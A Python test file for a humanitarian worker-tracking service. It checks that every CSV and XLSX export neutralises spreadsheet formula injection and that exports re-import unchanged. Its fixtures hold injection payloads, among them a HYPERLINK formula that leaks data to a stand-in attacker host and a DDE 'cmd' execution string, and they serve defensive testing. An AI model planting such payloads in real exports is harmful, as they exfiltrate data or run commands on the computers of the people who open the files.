"""Exports carry no live spreadsheet formula (CWE-1236), on every CSV route and every XLSX one
(the same rows as its CSV), and the workers CSV reads back through the import: one column per
value, named as the import names them."""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Awaitable, Callable
from pathlib import Path

import httpx
import openpyxl
from fastapi import FastAPI

from service.auth.permissions import Role
from service.directory.models import OrgKind
from service.exports import xlsx
from service.exports.csv import FORMULA_START, chunks, neutralise, restore
from tests.conftest import OrgFactory, TokenFactory, bearer, unique
from tests.service.tasks.test_tasks import ZONE

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak=1","click")',
    "+SUM(1,1)",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "-2+3",
]
#: Text a spreadsheet reads as a formula after the whitespace it skips.
HIDDEN = ["\t=1+1", "\r=1+1"]
#: Columns written from numbers: they stay numbers, a negative one too.
NUMERIC = {"lat", "lon", "accompanying_family", "version", "amount", "cases", "people", "seq",
           "capacity", "booked_places", "booked", "boarded", "arrived", "not_boarded",
           "not_arrived", "workers", "claimed", "received", "owed", "sought_birth_year",
           "zone_version", "women", "men"}  # fmt: skip
#: The documentation status of every worker the cases register: in no export, ever.
DOCUMENTATION_STATUS = "status-sentinel-never-exported"
#: In the family name of each of them: only for those who may read them.
FAMILY_NAME = "Nosyfamily"
# Lisbon: a negative longitude.
LISBON = {"lat": 38.7223, "lon": -9.1393}


#: The crisis the last ``welfare`` case recorded statuses in.
LAST_CRISIS: list[str] = []


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def assert_inert(rows: list[dict[str, str]]) -> None:
    """No text cell starts a formula; numeric cells are plain numbers."""
    for row in rows:
        for column, value in row.items():
            if column in NUMERIC:
                if value:
                    float(value)
            else:
                assert not value.startswith(FORMULA_START), (column, value)


async def workers_in_zone(
    client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
) -> tuple[list[dict[str, str]], str, set[str]]:
    """Workers named with formulas, exported by the zone's CSV: registered by their embassy,
    which records their documentation status (no export holds it)."""
    token = await make_token(Role.ADMIN)
    embassy = await make_token(Role.CONSULAR_OFFICER, await make_org(OrgKind.EMBASSY, "PRT", "PHL"))
    here = {"lat": LISBON["lat"] + 0.0001, "lon": LISBON["lon"] - 0.0001}
    for name in FORMULAS:
        registered = await client.post(
            "/api/v1/workers",
            json={
                "nationality": "PHL",
                "given_name": name,
                "family_name": f"{name} {FAMILY_NAME}",
                "employer": name,
                "location": here,
                "source": "self",
                "documentation_status": DOCUMENTATION_STATUS,
            },
            headers=bearer(embassy),
        )
        assert registered.status_code == 201, registered.text
    exported = await client.post(
        "/api/v1/exposure/workers?format=csv",
        json={"circle": {**here, "radius_m": 5}},
        headers=bearer(token),
    )
    assert exported.status_code == 200, exported.text
    rows = read(exported.text)
    assert {r["given_name"] for r in rows} >= {"'" + f for f in FORMULAS}
    assert all(float(r["lon"]) < 0 and not r["lon"].startswith("'") for r in rows)
    return rows, exported.headers["content-type"], {"'" + f for f in FORMULAS}


async def formula_crisis(
    client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
) -> tuple[str, set[str]]:
    """A crisis declared over the workers named with formulas: its id, the names expected."""
    _, _, expected = await workers_in_zone(client, make_org, make_token)
    token = await make_token(Role.ADMIN)
    here = {"lat": LISBON["lat"] + 0.0001, "lon": LISBON["lon"] - 0.0001}
    d = 0.0002
    square = [
        [here["lon"] - d, here["lat"] - d],
        [here["lon"] + d, here["lat"] - d],
        [here["lon"] + d, here["lat"] + d],
        [here["lon"] - d, here["lat"] + d],
        [here["lon"] - d, here["lat"] - d],
    ]
    crisis = await client.post(
        "/api/v1/crises",
        json={
            "title": unique("Formula"),
            "hazard": "flood",
            "severity": "minor",
            "zones": {"type": "Polygon", "coordinates": [square]},
        },
        headers=bearer(token),
    )
    assert crisis.status_code == 201, crisis.text
    return crisis.json()["id"], expected


async def crisis_workers(
    client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
) -> tuple[list[dict[str, str]], str, set[str]]:
    """The same workers, exported by the list of a crisis declared over them."""
    crisis_id, expected = await formula_crisis(client, make_org, make_token)
    token = await make_token(Role.ADMIN)
    exported = await client.get(
        f"/api/v1/crises/{crisis_id}/workers",
        headers={**bearer(token), "Accept": "text/csv"},
    )
    assert exported.status_code == 200, exported.text
    return read(exported.text), exported.headers["content-type"], expected


async def tasks(
    client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
) -> tuple[list[dict[str, str]], str, set[str]]:
    """Tasks titled and described with formulas, exported by the tasks CSV."""
    coordinator = bearer(await make_token(Role.COORDINATOR))
    org = await make_org(OrgKind.NATIONAL_SOCIETY, "MYS")
    crisis = await client.post(
        "/api/v1/crises",
        json={"title": unique("Formula"), "hazard": "flood", "severity": "minor", "zones": ZONE},
        headers=coordinator,
    )
    assert crisis.status_code == 201, crisis.text
    for text in FORMULAS:
        made = await client.post(
            "/api/v1/tasks",
            json={
                "crisis_id": crisis.json()["id"],
                "title": text,
                "description": HIDDEN[len(text) % 2] + text,
                "assignee_org": org,
            },
            headers=coordinator,
        )
        assert made.status_code == 201, made.text
    exported = await client.get(
        "/api/v1/tasks",
        params={"crisis": crisis.json()["id"], "format": "csv"},
        headers=coordinator,
    )
    assert exported.status_code == 200, exported.text
    rows = read(exported.text)
    assert {r["description"][:2] for r in rows} == {"'\t", "'\r"}
    return rows, exported.headers["content-type"], {"'" + f for f in FORMULAS}


async def welfare(
    client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
) -> tuple[list[dict[str, str]], str, set[str]]:
    """Statuses recorded with formulas in their notes, for workers named with formulas: the
    export holds neither names nor notes, so nothing of them is expected in it."""
    crisis_id, _ = await formula_crisis(client, make_org, make_token)
    LAST_CRISIS.append(crisis_id)
    token = await make_token(Role.ADMIN)
    listed = await client.get(
        f"/api/v1/crises/{crisis_id}/workers",
        headers={**bearer(token), "Accept": "text/csv"},
    )
    for row, note in zip(read(listed.text), FORMULAS, strict=False):
        recorded = await client.post(
            f"/api/v1/crises/{crisis_id}/welfare/{row['id']}",
            json={"outcome": "needs_help", "note": note, "how": "call"},
            headers=bearer(token),
        )
        assert recorded.status_code in {200, 201}, recorded.text
    exported = await client.get(
        f"/api/v1/crises/{crisis_id}/welfare",
        params={"format": "csv"},
        headers=bearer(token),
    )
    assert exported.status_code == 200, exported.text
    rows = read(exported.text)
    assert not {f for f in FORMULAS} & {v.lstrip("'") for r in rows for v in r.values()}
    return rows, exported.headers["content-type"], set()


async def check_recipients(
    client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
) -> tuple[list[dict[str, str]], str, set[str]]:
    """A welfare check with formulas for its sender and label, to workers named with formulas:
    its recipients' export holds ids and states, none of those texts."""
    token = await make_token(Role.ADMIN)
    # Off Porto: a place of this case's own.
    here, d = {"lat": 41.1496, "lon": -8.6109}, 0.0002
    for n, name in enumerate(FORMULAS):
        registered = await client.post(
            "/api/v1/workers",
            json={
                "nationality": "PHL",
                "given_name": name,
                "family_name": name,
                "phone": f"+60 12 345 {6700 + n}",
                "location": {"lat": here["lat"], "lon": here["lon"] + n * 0.00001},
                "source": "self",
            },
            headers=bearer(token),
        )
        assert registered.status_code == 201, registered.text
    ring = [
        [here["lon"] - d, here["lat"] - d],
        [here["lon"] + d, here["lat"] - d],
        [here["lon"] + d, here["lat"] + d],
        [here["lon"] - d, here["lat"] + d],
        [here["lon"] - d, here["lat"] - d],
    ]
    crisis = await client.post(
        "/api/v1/crises",
        json={
            "title": unique("=Formula"),
            "hazard": "flood",
            "severity": "minor",
            "zones": {"type": "Polygon", "coordinates": [ring]},
        },
        headers=bearer(token),
    )
    assert crisis.status_code == 201, crisis.text
    crisis_id = crisis.json()["id"]
    check = await client.post(
        f"/api/v1/crises/{crisis_id}/welfare-checks",
        json={"sender": FORMULAS[0][:40], "label": FORMULAS[1]},
        headers=bearer(token),
    )
    assert check.status_code == 201, check.text
    assert check.json()["recipients"] == len(FORMULAS)
    exported = await client.get(
        f"/api/v1/crises/{crisis_id}/welfare-checks/{check.json()['id']}/recipients",
        params={"format": "csv"},
        headers=bearer(token),
    )
    assert exported.status_code == 200, exported.text
    rows = read(exported.text)
    assert not {f for f in FORMULAS} & {v.lstrip("'") for r in rows for v in r.values()}
    return rows, exported.headers["content-type"], set()


async def formula_movement(
    client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
) -> tuple[str, str, set[str]]:
    """A movement whose places are named with formulas, carrying workers named with formulas:
    the crisis's id, the movement's, the names expected."""
    crisis_id, expected = await formula_crisis(client, make_org, make_token)
    token = await make_token(Role.ADMIN)
    headers = bearer(token)
    current = await client.get(f"/api/v1/crises/{crisis_id}", headers=headers)
    raised = await client.patch(
        f"/api/v1/crises/{crisis_id}",
        json={"alert_level": 3},
        headers={**headers, "If-Match": current.headers["etag"]},
    )
    assert raised.status_code == 200, raised.text
    listed = await client.get(
        f"/api/v1/crises/{crisis_id}/workers", headers={**headers, "Accept": "text/csv"}
    )
    moving = await client.post(
        f"/api/v1/crises/{crisis_id}/movements",
        json={
            "title": FORMULAS[0],
            "legs": [{"mode": "bus", "origin": FORMULAS[1], "destination": FORMULAS[2],
                      "capacity": 500}],
        },
        headers=headers,
    )  # fmt: skip
    assert moving.status_code == 201, moving.text
    for row in read(listed.text):
        case = await client.post(
            f"/api/v1/crises/{crisis_id}/repatriation-cases",
            json={"worker_id": row["id"]},
            headers=headers,
        )
        assert case.status_code == 201, case.text
        await client.post(
            f"/api/v1/repatriation-cases/{case.json()['id']}/consent",
            json={"given": True},
            headers=headers,
        )
        placed = await client.post(
            f"/api/v1/movements/{moving.json()['id']}/seats",
            json={"case_id": case.json()["id"]},
            headers=headers,
        )
        assert placed.status_code == 200, placed.text
    return crisis_id, moving.json()["id"], expected


async def manifest(
    client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
) -> tuple[list[dict[str, str]], str, set[str]]:
    """The formula movement's manifest writes the names and the places, neutralised."""
    _, movement_id, expected = await formula_movement(client, make_org, make_token)
    exported = await client.get(
        f"/api/v1/movements/{movement_id}/manifest",
        params={"format": "csv"},
        headers=bearer(await make_token(Role.ADMIN)),
    )
    assert exported.status_code == 200, exported.text
    rows = read(exported.text)
    assert {r["origin"] for r in rows} == {"'" + FORMULAS[1]}
    return rows, exported.headers["content-type"], expected


async def ledger(
    client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
) -> tuple[list[dict[str, str]], str, set[str]]:
    """A fund's entries noted with formulas: the ledger's CSV writes the notes neutralised and
    the amounts as numbers."""
    headers = bearer(await make_token(Role.ADMIN))
    fund = await client.post(
        "/api/v1/funds",
        json={"name": FORMULAS[0], "currency": "PHP", "country": "PHL"},
        headers=headers,
    )
    assert fund.status_code == 201, fund.text
    for note in FORMULAS:
        made = await client.post(
            f"/api/v1/funds/{fund.json()['id']}/entries",
            json={"kind": "budget", "amount": 100, "note": note},
            headers=headers,
        )
        assert made.status_code == 201, made.text
    exported = await client.get(
        f"/api/v1/funds/{fund.json()['id']}/entries", params={"format": "csv"}, headers=headers
    )
    assert exported.status_code == 200, exported.text
    rows = read(exported.text)
    assert {r["amount"] for r in rows} == {"100"}
    return rows, exported.headers["content-type"], {"'" + f for f in FORMULAS}


async def crisis_report(
    client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
) -> tuple[list[dict[str, str]], str, set[str]]:
    """The repatriation report of the crisis over the workers named with formulas: counts by
    nationality and state, no name in them."""
    crisis_id, _, _ = await formula_movement(client, make_org, make_token)
    headers = bearer(await make_token(Role.ADMIN))
    exported = await client.get(
        f"/api/v1/crises/{crisis_id}/repatriation-report",
        params={"format": "csv"},
        headers=headers,
    )
    assert exported.status_code == 200, exported.text
    rows = read(exported.text)
    assert {r["state"] for r in rows} == {"assigned"}, rows
    return rows, exported.headers["content-type"], {"PHL"}


async def movement_report(
    client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
) -> tuple[list[dict[str, str]], str, set[str]]:
    """A movement whose places are named with formulas: its report writes them neutralised."""
    _, movement_id, _ = await formula_movement(client, make_org, make_token)
    headers = bearer(await make_token(Role.ADMIN))
    exported = await client.get(
        f"/api/v1/movements/{movement_id}/report",
        params={"format": "csv"},
        headers=headers,
    )
    assert exported.status_code == 200, exported.text
    rows = read(exported.text)
    return rows, exported.headers["content-type"], {"'" + FORMULAS[1], "'" + FORMULAS[2]}


async def debtors(
    client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
) -> tuple[list[dict[str, str]], str, set[str]]:
    """An employer named with a formula, owing the cost of a worker's return: the debtors'
    CSV writes its name neutralised and the amounts as numbers."""
    headers = bearer(await make_token(Role.ADMIN))
    await make_org(OrgKind.EMPLOYER, "MYS", name=FORMULAS[0], slug=unique("formula-employer"))
    here = {"lat": 3.139, "lon": 101.6869}
    worker = await client.post(
        "/api/v1/workers",
        json={"nationality": "PHL", "given_name": "Ana", "employer": FORMULAS[0],
              "location": here, "source": "self"},
        headers=headers,
    )  # fmt: skip
    assert worker.status_code == 201, worker.text
    d = 0.001
    ring = [[here["lon"] - d, here["lat"] - d], [here["lon"] + d, here["lat"] - d],
            [here["lon"] + d, here["lat"] + d], [here["lon"] - d, here["lat"] + d],
            [here["lon"] - d, here["lat"] - d]]  # fmt: skip
    crisis = await client.post(
        "/api/v1/crises",
        json={"title": unique("Debt"), "hazard": "conflict", "severity": "severe",
              "alert_level": 3, "zones": {"type": "Polygon", "coordinates": [ring]}},
        headers=headers,
    )  # fmt: skip
    assert crisis.status_code == 201, crisis.text
    crisis_id = crisis.json()["id"]
    case = await client.post(
        f"/api/v1/crises/{crisis_id}/repatriation-cases",
        json={"worker_id": worker.json()["id"]},
        headers=headers,
    )
    assert case.json()["state"] == "eligible", case.text
    await client.post(
        f"/api/v1/repatriation-cases/{case.json()['id']}/consent",
        json={"given": True},
        headers=headers,
    )
    moving = await client.post(
        f"/api/v1/crises/{crisis_id}/movements",
        json={"title": "Home", "legs": [{"mode": "flight", "origin": "KUL", "destination": "MNL",
                                          "capacity": 5, "cost_per_place": 1500000}]},
        headers=headers,
    )  # fmt: skip
    movement_id = moving.json()["id"]
    for path in ("seats", "legs/1/boarding"):
        done = await client.post(
            f"/api/v1/movements/{movement_id}/{path}",
            json={"case_id": case.json()["id"]},
            headers=headers,
        )
        assert done.status_code == 200, done.text
    fund = await client.post(
        "/api/v1/funds",
        json={"name": "Emergency repatriation fund", "currency": "PHP", "country": "PHL"},
        headers=headers,
    )
    claimed = await client.post(
        f"/api/v1/funds/{fund.json()['id']}/recoveries",
        json={"movement_id": movement_id},
        headers=headers,
    )
    assert claimed.status_code == 200 and claimed.json()["claimed"] == 1, claimed.text
    exported = await client.get(
        f"/api/v1/funds/{fund.json()['id']}/debtors", params={"format": "csv"}, headers=headers
    )
    assert exported.status_code == 200, exported.text
    rows = read(exported.text)
    assert [(r["owed"], r["workers"]) for r in rows] == [("1500000", "1")], rows
    return rows, exported.headers["content-type"], {"'" + FORMULAS[0]}


async def tracing_requests(
    client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
) -> tuple[list[dict[str, str]], str, set[str]]:
    """Tracing requests for people named with formulas: the tracing officers' CSV writes the
    names neutralised."""
    society = await make_org(OrgKind.NATIONAL_SOCIETY, "PHL", slug=unique("formula-society"))
    headers = bearer(await make_token(Role.SOCIETY_RESPONDER, society))
    for name in FORMULAS:
        filed = await client.post(
            "/api/v1/tracing-requests",
            json={"host_country": "MYS", "sought_given_name": name, "sought_family_name": name,
                  "sought_nationality": "PHL", "separation": "disaster", "enquirer_name": name,
                  "enquirer_relationship": "sister", "enquirer_contact": "+639170000001",
                  "enquirer_consent": True},
            headers=headers,
        )  # fmt: skip
        assert filed.status_code == 201, filed.text
    exported = await client.get(
        "/api/v1/tracing-requests", params={"format": "csv", "limit": 100}, headers=headers
    )
    assert exported.status_code == 200, exported.text
    rows = read(exported.text)
    assert "enquirer_contact" not in rows[0]
    return rows, exported.headers["content-type"], {"'" + f for f in FORMULAS}


async def exposure_tables(
    client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
) -> tuple[list[dict[str, str]], str, set[str]]:
    """The exposure of the crisis over the workers named with formulas: counts, no name. As HXL
    (the hashtag row, its cells hashtags, not data), then as plain CSV: the same rows without
    it (the CSV asked last, so that the XLSX asked again is the plain table's)."""
    crisis_id, _ = await formula_crisis(client, make_org, make_token)
    headers = bearer(await make_token(Role.ADMIN))
    url = f"/api/v1/crises/{crisis_id}/exposure"
    tagged = await client.get(url, params={"format": "hxl"}, headers=headers)
    assert tagged.status_code == 200, tagged.text
    hxl_rows = read(tagged.text)
    assert hxl_rows[0]["workers"] == "#affected+migrants"
    assert_inert(hxl_rows[1:])
    exported = await client.get(url, params={"format": "csv"}, headers=headers)
    assert exported.status_code == 200, exported.text
    assert exported.content.startswith("\ufeff".encode())
    rows = read(exported.text)
    assert rows == hxl_rows[1:]
    return rows, exported.headers["content-type"], {"PHL"}


async def welfare_counts_hxl(
    client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
) -> tuple[list[dict[str, str]], str, set[str]]:
    """The HXL welfare counts of a crisis whose statuses have formulas in their notes."""
    await welfare(client, make_org, make_token)
    crisis_id = LAST_CRISIS[-1]
    exported = await client.get(
        f"/api/v1/crises/{crisis_id}/welfare-counts",
        params={"format": "hxl"},
        headers=bearer(await make_token(Role.ADMIN)),
    )
    assert exported.status_code == 200, exported.text
    rows = read(exported.text)
    assert rows[0]["status"] == "#status"
    assert not {f for f in FORMULAS} & {v.lstrip("'") for r in rows for v in r.values()}
    return rows[1:], exported.headers["content-type"], {"needs_help"}


async def audit_log(
    client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
) -> tuple[list[dict[str, str]], str, set[str]]:
    """The audit log's download of what an organisation named with a formula did, a formula
    given as its purpose: the name and the purpose written neutralised."""
    org_id = await make_org(name=FORMULAS[0])
    headers = bearer(await make_token(Role.ADMIN, org_id))
    for purpose in FORMULAS[1:]:
        created = await client.post(
            "/api/v1/organizations",
            json={"slug": unique("formula-org"), "name": "Formula org", "kind": "ngo",
                  "country": "THA"},
            headers={**headers, "X-Lifeline-Purpose": purpose},
        )  # fmt: skip
        assert created.status_code == 201, created.text
    # Filtered to the creations: the download's own call is in the log too, and an XLSX asked
    # again would hold one more.
    exported = await client.get(
        "/api/v1/audit",
        params={"format": "csv", "organization_id": org_id, "action": "organization.create"},
        headers=headers,
    )
    assert exported.status_code == 200, exported.text
    rows = read(exported.text)
    assert len(rows) == len(FORMULAS) - 1
    return rows, exported.headers["content-type"], {"'" + f for f in FORMULAS}


Case = Callable[
    [httpx.AsyncClient, OrgFactory, TokenFactory],
    Awaitable[tuple[list[dict[str, str]], str, set[str]]],
]
#: How to put formulas into each CSV export. A CSV route without a case here fails the test.
CASES: dict[tuple[str, str], Case] = {
    ("POST", "/api/v1/exposure/workers"): workers_in_zone,
    ("GET", "/api/v1/crises/{id}/workers"): crisis_workers,
    ("GET", "/api/v1/tasks"): tasks,
    ("GET", "/api/v1/crises/{id}/welfare"): welfare,
    ("GET", "/api/v1/crises/{id}/welfare-checks/{check_id}/recipients"): check_recipients,
    ("GET", "/api/v1/movements/{id}/manifest"): manifest,
    ("GET", "/api/v1/funds/{id}/entries"): ledger,
    ("GET", "/api/v1/crises/{id}/repatriation-report"): crisis_report,
    ("GET", "/api/v1/movements/{id}/report"): movement_report,
    ("GET", "/api/v1/funds/{id}/debtors"): debtors,
    ("GET", "/api/v1/tracing-requests"): tracing_requests,
    ("GET", "/api/v1/crises/{id}/exposure"): exposure_tables,
    ("GET", "/api/v1/crises/{id}/welfare-counts"): welfare_counts_hxl,
    ("GET", "/api/v1/audit"): audit_log,
}
#: CSV routes with no XLSX, and why.
NO_XLSX = {
    # HXL-tagged CSV (a second header row of hashtags), for HXL tools: no XLSX asked for (the
    # exposure's HXL has its plain CSV and XLSX beside it, format=csv and format=xlsx).
    ("GET", "/api/v1/crises/{id}/welfare-counts"),
}


def csv_routes(app: FastAPI, media_type: str = "text/csv") -> set[tuple[str, str]]:
    """Every route whose OpenAPI answer may be ``media_type``."""
    found = set()
    for path, operations in app.openapi()["paths"].items():
        for method, operation in operations.items():
            answers = operation.get("responses", {}).values()
            if any(media_type in a.get("content", {}) for a in answers):
                found.add((method.upper(), path))
    return found


def read_xlsx(content: bytes) -> list[dict[str, str]]:
    """A workbook's one sheet as CSV rows would read: after checking that no cell is a formula
    and no text starts one, and that the header is bold; numbers as their text."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    [sheet] = book.worksheets
    table = []
    for n, row in enumerate(sheet.iter_rows()):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_START), cell.coordinate
            else:
                assert cell.value is None or isinstance(cell.value, int | float), cell.coordinate
            assert cell.font.b == (n == 0), cell.coordinate
        table.append(["" if c.value is None else str(c.value) for c in row])
    header, *rest = table
    return [dict(zip(header, r, strict=True)) for r in rest]


async def as_xlsx(client: httpx.AsyncClient, asked: httpx.Request) -> httpx.Response:
    """The request a CSV answered, asking for XLSX instead: ``format=xlsx``, or the XLSX media
    type in ``Accept`` where it asked by ``Accept``."""
    headers = {k: v for k, v in asked.headers.items() if k in {"authorization", "content-type"}}
    url = asked.url
    if "format" in url.params:
        url = url.copy_set_param("format", "xlsx")
    else:
        headers["accept"] = xlsx.MEDIA_TYPE
    return await client.request(asked.method, url, content=asked.content, headers=headers)


async def test_every_csv_route_neutralises_formulas(
    app: FastAPI, client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
) -> None:
    """Each CSV route's formula case, and the same request again as XLSX where the route offers
    it: the same rows, no formula in any cell."""
    routes = csv_routes(app)
    assert routes == set(CASES), "a CSV route without a formula case: add one to CASES"
    offered = csv_routes(app, xlsx.MEDIA_TYPE)
    assert offered == routes - NO_XLSX, "a CSV route without XLSX: offer it or say why"
    answered: list[httpx.Request] = []

    async def keep(response: httpx.Response) -> None:
        if response.headers.get("content-type", "").startswith("text/csv"):
            answered.append(response.request)

    client.event_hooks["response"].append(keep)
    try:
        for route in sorted(routes):
            rows, content_type, expected = await CASES[route](client, make_org, make_token)
            assert content_type.startswith("text/csv"), route
            assert rows, route
            assert_inert(rows)
            assert expected <= {v for r in rows for v in r.values()}, route
            if route not in offered:
                continue
            answer = await as_xlsx(client, answered[-1])
            assert answer.status_code == 200, (route, answer.text)
            assert answer.headers["content-type"] == xlsx.MEDIA_TYPE, route
            assert answer.headers["content-disposition"].endswith('.xlsx"'), route
            # A cell's line end is a line feed (service.exports.xlsx).
            lf = [{k: v.replace("\r\n", "\n").replace("\r", "\n") for k, v in r.items()}
                  for r in rows]  # fmt: skip
            assert read_xlsx(answer.content) == lf, route
    finally:
        client.event_hooks["response"].remove(keep)


def test_only_the_shared_writer_writes_csv() -> None:
    """Nothing in the service writes CSV but ``service.exports.csv`` (and the demo's input
    files): a route that writes its own would escape the rule even without declaring text/csv."""
    root = Path(__file__).parents[3] / "service"
    allowed = {root / "exports" / "csv.py", root / "demo" / "synthetic.py"}
    for path in root.rglob("*.py"):
        tree = ast.parse(path.read_text())
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                assert path in allowed, f"{path.relative_to(root)} writes CSV itself"


def test_the_writer_neutralises_text_and_keeps_numbers() -> None:
    text = "".join(
        chunks(
            ["name", "lon", "count", "flag", "empty"],
            [[f, -12.5, -3, True, None] for f in [*FORMULAS, *HIDDEN, "'=x", "Maria"]],
        )
    )
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["name", "lon", "count", "flag", "empty"]
    assert [r[0] for r in rows[1:]] == [
        *("'" + f for f in [*FORMULAS, *HIDDEN]),
        "''=x",
        "Maria",
    ]
    assert {tuple(r[1:]) for r in rows[1:]} == {("-12.5", "-3", "true", "")}
    # What an import reads back is what was written.
    assert [restore(r[0]) for r in rows[1:]] == [*FORMULAS, *HIDDEN, "'=x", "Maria"]
    assert restore(neutralise("+63 912")) == "+63 912"


def test_the_xlsx_writer_neutralises_text_and_keeps_numbers() -> None:
    out = io.BytesIO()
    values = [*FORMULAS, "\t=1+1", "'=x", "Maria", "bell\x07"]
    xlsx.write(
        ["name", "lon", "count", "flag", "empty"], [[f, -12.5, -3, True, None] for f in values], out
    )
    rows = read_xlsx(out.getvalue())
    assert [r["name"] for r in rows] == [
        *("'" + f for f in [*FORMULAS, "\t=1+1"]),
        "''=x",
        "Maria",
        "bell\ufffd",
    ]
    assert {(r["lon"], r["count"], r["flag"], r["empty"]) for r in rows} == {
        ("-12.5", "-3", "true", "")
    }
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet is not None and sheet["B2"].value == -12.5 and sheet["C2"].value == -3


async def test_a_csv_download_starts_with_a_byte_order_mark() -> None:
    from service.exports.csv import BOM, response

    parts = [p async for p in response(["n"], [[1]], "x.csv").body_iterator]
    assert parts[0] == BOM and "".join(parts[1:]) == "n\r\n1\r\n"


def test_the_writer_streams_in_chunks() -> None:
    parts = list(chunks(["n"], ([i] for i in range(1_201))))
    assert len(parts) == 3 and "".join(parts).count("\n") == 1_202


async def test_an_export_reads_back_through_the_import_and_changes_nothing(
    client: httpx.AsyncClient, make_org: OrgFactory, make_token: TokenFactory
) -> None:
    """The workers CSV has the import's columns (consent flags, lat and lon apart) and the
    record's id: imported again, it creates nothing, anonymous records included."""
    embassy = await make_org(OrgKind.EMBASSY, "MYS", represents="PHL")
    token = await make_token(Role.CONSULAR_OFFICER, embassy)
    # Somewhere in Penang nobody else uses.
    here = {"lat": 5.3701, "lon": 100.2401}
    people = [
        {"document_number": unique("P"), "given_name": "=1+1", "phone": "+60123456789"},
        {"given_name": unique("Ana"), "family_name": "Cruz", "birth_date": "1990-01-02"},
        {},  # anonymous
        {},  # anonymous, and the same as the one before: another person
        {"languages": ["tl", "en"], "vulnerabilities": ["pregnant"], "sector": "care"},
    ]
    for extra in people:
        registered = await client.post(
            "/api/v1/workers",
            json={
                "nationality": "PHL",
                "location": here,
                "country": "MYS",
                "source": "embassy_registration",
                "consent": {"share_with_embassy": True, "share_with_humanitarian": True},
                **extra,
            },
            headers=bearer(token),
        )
        assert registered.status_code == 201, registered.text
    zone = {"circle": {**here, "radius_m": 5}, "nationality": "PHL"}
    exported = await client.post(
        "/api/v1/exposure/workers?format=csv", json=zone, headers=bearer(token)
    )
    rows = read(exported.text)
    assert len(rows) == len(people)
    header = set(rows[0])
    assert {"share_with_embassy", "share_with_humanitarian", "lat", "lon"} <= header
    assert not header & {"consent", "location", "documentation_status"}
    assert {r["share_with_humanitarian"] for r in rows} == {"true"}
    again = await client.post(
        "/api/v1/workers/import",
        files={"file": ("export.csv", exported.content, "text/csv")},
        headers=bearer(token),
    )
    assert again.status_code == 200, again.text
    result = again.json()
    assert (result["created"], result["updated"], result["rejected"]) == (0, 0, 0), result
    assert result["unchanged"] == len(people) and result["errors"] == []
    after = await client.post(
        "/api/v1/exposure/workers?format=csv", json=zone, headers=bearer(token)
    )
    assert read(after.text) == rows
